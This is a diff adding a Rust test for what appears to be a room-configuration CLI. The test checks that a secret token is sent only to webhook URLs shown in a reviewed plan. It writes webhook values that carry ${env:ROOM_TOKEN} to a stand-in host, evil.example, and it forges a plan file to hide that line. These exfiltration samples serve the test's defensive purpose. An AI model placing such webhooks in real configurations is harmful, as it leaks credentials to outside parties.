@@ -517,4 +517,79 @@ mod covered {
             ran.stderr
         );
     }
+
+    /// A secret goes where a reviewed plan showed it to go, whoever knows the variables.
+    #[test]
+    fn a_secret_goes_nowhere_that_was_not_shown() {
+        let site = Site::new(&[], &[]);
+        let set = |token: &str, url: &str| {
+            let set = [("ROOM_TOKEN", token), ("ROOM_URL", url)];
+            set.map(|(name, value)| (name.to_owned(), value.to_owned()))
+        };
+        let here = set("canary", "https://h.example/canary");
+        let write = |url: &str, people: i64| {
+            let room = format!(
+                "privacy: private\nmaxParticipants: {people}\nmeetingEndedWebhook: {url}\n"
+            );
+            site.room(0, &room);
+        };
+        let ran = |variables: &[(String, String)], args: &[&str]| {
+            let fixed = ["apply", "--yes", "--rate", "unlimited"];
+            let ran = site.run_with(variables, &[&fixed, args].concat());
+            let sent = site.log().iter().rev().find_map(|one| {
+                Some(
+                    one.body.as_ref()?["meetingEndedWebhook"]
+                        .as_str()?
+                        .to_owned(),
+                )
+            });
+            (ran.code, sent.unwrap_or_default(), ran.all())
+        };
+        write("https://h.example/${env:ROOM_TOKEN}", 1);
+        assert_eq!(ran(&here, &[]).0, 0);
+
+        // Only the variable moved, and a line beside it: nothing of it leads elsewhere.
+        write("https://h.example/${env:ROOM_TOKEN}", 2);
+        plan(&site, "plan.roomctl");
+        let rotated = set("canary-2", "https://h.example/canary-2");
+        let (code, sent, all) = ran(&rotated, &["--covered-by", "plan.roomctl"]);
+        assert_eq!((code, &*sent), (0, "https://h.example/canary-2"), "{all}");
+
+        // Made where the other text stands for the same, a plan does not show it; later it stands for something else.
+        write("${env:ROOM_URL}", 3);
+        let made = site.run_with(&rotated, &["plan", "--out", "plan.roomctl"]);
+        assert!(
+            !made.stdout.contains("meetingEndedWebhook"),
+            "{}",
+            made.all()
+        );
+        let evil = set("canary-2", "https://evil.example/canary-2");
+        for how in [&["--covered-by", "plan.roomctl"][..], &["plan.roomctl"]] {
+            let (code, sent, all) = ran(&evil, how);
+            assert_eq!((code, &*sent), (4, "https://h.example/canary-2"), "{all}");
+        }
+
+        // Shown, it is sent; taken out of what was shown, it is not.
+        write("https://evil.example/${env:ROOM_TOKEN}", 3);
+        plan(&site, "plan.roomctl");
+        let text = site.scratch.read("plan.roomctl");
+        assert!(text.contains("https://evil.example/****"), "{text}");
+        let mut forged: Value = serde_json::from_str(&text).unwrap();
+        let lines = forged["report"]["changes"][0]["attributes"].as_array_mut();
+        lines
+            .unwrap()
+            .retain(|line| line["name"] != "meetingEndedWebhook");
+        site.scratch
+            .write("forged.roomctl", &sealed(&forged.to_string()));
+        for how in [&["--covered-by", "forged.roomctl"][..], &["forged.roomctl"]] {
+            let (code, sent, all) = ran(&rotated, how);
+            assert_eq!((code, &*sent), (4, "https://h.example/canary-2"), "{all}");
+        }
+        let (code, sent, all) = ran(&rotated, &["--covered-by", "plan.roomctl"]);
+        assert_eq!(
+            (code, &*sent),
+            (0, "https://evil.example/canary-2"),
+            "{all}"
+        );
+    }
 }
